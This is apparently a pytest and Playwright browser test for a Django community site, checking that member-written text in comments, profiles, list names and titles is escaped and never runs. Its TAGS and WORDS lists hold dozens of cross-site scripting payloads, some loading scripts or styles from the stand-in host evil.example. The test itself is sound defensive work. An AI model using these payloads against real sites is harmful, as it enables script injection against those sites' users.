"""Hostile texts wherever a member writes: nothing runs, nothing is loaded, all of it is read."""

from collections.abc import Callable

import pytest
from django.contrib.auth import get_user_model
from django.utils import timezone
from playwright.sync_api import Page

from community.comments.models import Comment
from community.moderation.models import Status
from community.people.models import Profile
from community.saves.models import Save, SaveList
from content.models import ArticlePage
from tests.browser.steps import STORY

RUN = "alert(1)"
TAGS = [
    f"<script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script\x0c>{RUN}</script>",
    f"<script src=data:,{RUN}></script>",
    "<script src=//evil.example/x.js></script>",
    f"<<script>{RUN}//<</script>",
    f"<script>{RUN}<!--",
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror='{RUN}' ",
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f"`><img src=x onerror={RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f"<image src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=20>x</text></a></svg>",
    f"<math><mi xlink:href='javascript:{RUN}'>x</mi></math>",
    f"<body onload={RUN}>",
    f"<iframe src='javascript:{RUN}'></iframe>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<object data='javascript:{RUN}'></object>",
    f"<embed src='javascript:{RUN}'>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<a href='javascript:{RUN}' id=x>x</a>",
    f"<form action='javascript:{RUN}'><button>x</button></form>",
    f"<button formaction='javascript:{RUN}'>x</button>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    f"<style>*{{background:url(javascript:{RUN})}}</style>",
    f"<p style='background:url(javascript:{RUN})'>x</p>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<div hx-get=/ hx-trigger=load hx-on::load={RUN}>x</div>",
    f"<div hx-on:htmx:load='{RUN}' data-hx-on:click='{RUN}'>x</div>",
]
WORDS = [
    f'" onmouseover={RUN} x="',
    f"' autofocus onfocus={RUN} x='",
    f"javascript:{RUN}",
    f'https://x.example/"onmouseover={RUN}//',
    f"https://x.example/'onclick='{RUN}",
    f"https://x.example/<script>{RUN}</script>",
    f"http://javascript:{RUN}@x.example/",
    'www.x.example/"><b>',
    f'@ada"><script>{RUN}</script>',
    f"@ada' onclick={RUN}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"{{% now '{RUN}' %}}",
    f"${{{RUN}}}",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\u202e<script>{RUN}</script>\u202c",
    f"＜script＞{RUN}＜/script＞",
    f"<\u200bscript>{RUN}</script>",
    "]]><!--",
    "-->",
    "</main></body></html>",
    "</p></div></article><h1>x</h1>",
]
HOSTILE = [*TAGS, *WORDS]


@pytest.fixture
def told(live_site) -> ArticlePage:
    """Let somebody have said all of it, in every place that a member can write into."""
    users = get_user_model().objects
    page = ArticlePage.objects.live().get(url_path__endswith=STORY.split("/")[-2] + "/", locale=1)
    if users.filter(handle="mallory").exists():  # the tests of this file share the site
        return page
    user = users.create_user("mal@example.com", "x" * 20, handle="mallory")
    now = timezone.now()
    for number, text in enumerate(HOSTILE):
        Comment.objects.create(
            author=user, page=page, text=text, key=f"{number}", status=Status.VISIBLE,
            language="en", date_created=now,
        )  # fmt: skip
        row = SaveList.objects.create(owner=user, name=f"{number} {text}"[:60], is_public=True)
        if number < 1:
            Save.objects.create(user=user, kind="story", thing=page.pk, list=row)
    Profile.objects.create(user=user, bio="\n".join(HOSTILE))
    ArticlePage.objects.filter(pk=page.pk).update(title="".join(HOSTILE[:4])[:255])
    return page


def test_nothing_that_members_write_runs(new_page: Callable[..., Page], told: ArticlePage) -> None:
    page = new_page()
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.add_init_script(
        "window.broken = []; document.addEventListener('securitypolicyviolation', "
        "(event) => window.broken.push(event.violatedDirective));"
    )
    leaves = len(HOSTILE) // 20 + 1
    threads = [f"/comments/on/{told.pk}/?page={number + 1}" for number in range(leaves)]
    people = [f"/@mallory/?page={number + 1}" for number in range(leaves)]
    shown = SaveList.objects.filter(saves__isnull=False).get()
    for path in (STORY, *threads, *people, f"/@mallory/lists/{shown.pk}/"):
        page.goto(path)
        page.wait_for_load_state("networkidle")
        page.mouse.move(200, 400)
        assert page.evaluate("window.broken") == [], path
        assert page.locator("h1").count() == 1, path
        assert page.locator("main script, main iframe, main svg[onload], main base").count() == 0
    assert dialogs == []


def test_all_of_it_can_be_read(new_page: Callable[..., Page], told: ArticlePage) -> None:
    page = new_page()
    page.goto(f"/comments/on/{told.pk}/")
    words = page.locator(".comment__text").all_inner_texts()
    assert any("<script>alert(1)</script>" in one for one in words)
    hrefs = page.locator(".comment__text a").evaluate_all("all => all.map((one) => one.href)")
    assert all(one.startswith(("http://", "https://")) for one in hrefs)
